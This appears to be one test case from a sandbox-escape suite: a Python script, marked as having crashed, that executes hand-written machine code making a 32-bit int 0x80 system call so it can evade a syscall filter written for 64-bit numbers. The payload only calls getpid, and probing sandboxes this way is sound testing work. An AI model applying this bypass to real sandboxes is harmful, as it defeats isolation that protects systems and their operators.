# outcome: crashed
# It makes 32-bit calls, whose numbers mean others than those that a filter for 64 bits knows.
import ctypes
import mmap
import platform
import os

# mov eax, 20 (getpid of 32 bits); int 0x80; ret
CODE = bytes.fromhex("b814000000cd80c3")


def attack():
    if platform.machine() != "x86_64":
        # No other machine has the instruction.
        os.abort()
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
